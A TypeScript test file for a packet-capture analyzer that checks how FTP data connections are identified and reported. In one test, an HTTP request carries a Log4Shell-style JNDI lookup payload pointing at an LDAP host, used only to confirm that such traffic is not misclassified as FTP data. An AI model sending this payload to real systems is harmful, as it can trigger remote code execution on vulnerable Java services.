/** Data connections of FTP: `tshark -r ftp.pcap -Y ftp-data -T fields -e frame.number -e ftp-data.setup-frame -e ftp-data.setup-method -e ftp-data.command`, tshark 4.0.17. */
import { describe, expect, test } from 'vitest';
import { openCaptureFile } from '../../src/analysis/captureFile.node.ts';
import { EVERYTHING } from '../../src/analysis/engineApi.ts';
import { selectFrames } from '../../src/analysis/filtering.ts';
import { readFields, wantedFields } from '../../src/analysis/readFields.ts';
import { bufferSource } from '../../src/pcap/byteSource.ts';
import { pcap } from '../../src/pcap/formats/pcap.ts';
import { analyzeCapture, sample } from '../support/analyzeCapture.ts';
import { PacketBuilder } from '../support/packetBuilder.ts';
import { bytesOf } from '../support/streamDriver.ts';
import { withSession } from '../support/withSession.ts';

describe('data connections of FTP', () => {
  test('are known by what announced them', async () => {
    const opened = await openCaptureFile({ kind: 'path', path: sample('ftp.pcap') }),
      wanted = wantedFields(['ftp-data.setup-frame', 'ftp-data.setup-method', 'ftp-data.command']),
      rows: string[] = [];
    if (!opened.ok || !wanted.ok) throw new Error('not there');
    const { source, format, close } = opened.capture;
    await readFields(
      source,
      format,
      { filter: 'ftp-data', fields: wanted.entries, showSecrets: true, pace: () => Promise.resolve() },
      ({ frame, values }) => rows.push([frame, ...values.map((said) => said.join())].join(' ')),
    );
    await close();
    expect(rows.filter((row) => !row.includes('EPRT'))).toEqual([
      '48 40 EPASV TYPE A',
      '89 79 PASV TYPE I',
      '91 79 PASV TYPE I',
      '183 174 PORT TYPE A',
      ...[223, 224, 225, 226, 227].map((frame) => `${frame} 215 EPASV TYPE I`),
      ...[274, 276, 278].map((frame) => `${frame} 262 EPASV TYPE I`),
      '325 317 EPASV TYPE A',
    ]);
    // Of these tshark names frame 128, the handshake, and no method.
    expect(rows.filter((row) => row.includes('EPRT'))).toEqual([132, 134, 136, 138, 140, 142, 144].map((frame) => `${frame} 121 EPRT TYPE I`));
  });

  test('are not what somebody announces and then speaks another protocol on', async () => {
    const frames = async (said: string, filter: string): Promise<boolean> => {
      const builder = new PacketBuilder(),
        segment = (port: number, fromClient: boolean, payload: string): void => {
          builder.tcp({
            from: fromClient ? '10.0.0.1' : '10.0.0.2',
            to: fromClient ? '10.0.0.2' : '10.0.0.1',
            sourcePort: fromClient ? 5000 + (port & 1) : port,
            destinationPort: fromClient ? port : 5000 + (port & 1),
            flags: 0x18,
            sequence: 1,
            payload: bytesOf(payload),
          });
        };
      segment(21, false, '227 Entering Passive Mode (10,0,0,2,31,144)\r\n');
      segment(8080, true, said);
      return (await selectFrames(bufferSource(builder.bytes()), pcap, filter, undefined, {})).has(2);
    };
    const ATTACK = 'GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: a\r\n\r\n';
    expect(await frames(ATTACK, 'http.request')).toBe(true);
    expect(await frames(ATTACK, 'ftp-data')).toBe(false);
    expect(await frames('hi\n', 'ftp-data')).toBe(true);
    expect(await frames('\0\x01\x02 a file of any kind', 'ftp-data')).toBe(true);
  });

  test('are told in the list and in the report', async () => {
    const rows = await withSession(
      sample('ftp.pcap'),
      async (session) =>
        (
          await session.handlers.packets(
            { selection: { ...EVERYTHING, filter: 'ftp-data' }, sort: null, offset: 0, limit: 2 },
            new AbortController().signal,
          )
        ).rows,
    );
    expect(rows.map(({ protocol, info }) => `${protocol} ${info}`)).toEqual([
      'FTP-DATA FTP Data: 204 bytes (EPASV) (TYPE A)',
      'FTP-DATA FTP Data: 1448 bytes (PASV) (TYPE I)',
    ]);
    const report = await analyzeCapture(sample('ftp.pcap'));
    expect(report.protocols.find(({ protocol }) => protocol === 'ftp-data')?.packets).toBe(20);
    expect(new Set(report.conversations.filter(({ layer }) => layer === 'tcp').map(({ service }) => service))).toEqual(new Set(['ftp', 'ftp-data']));
  });
});
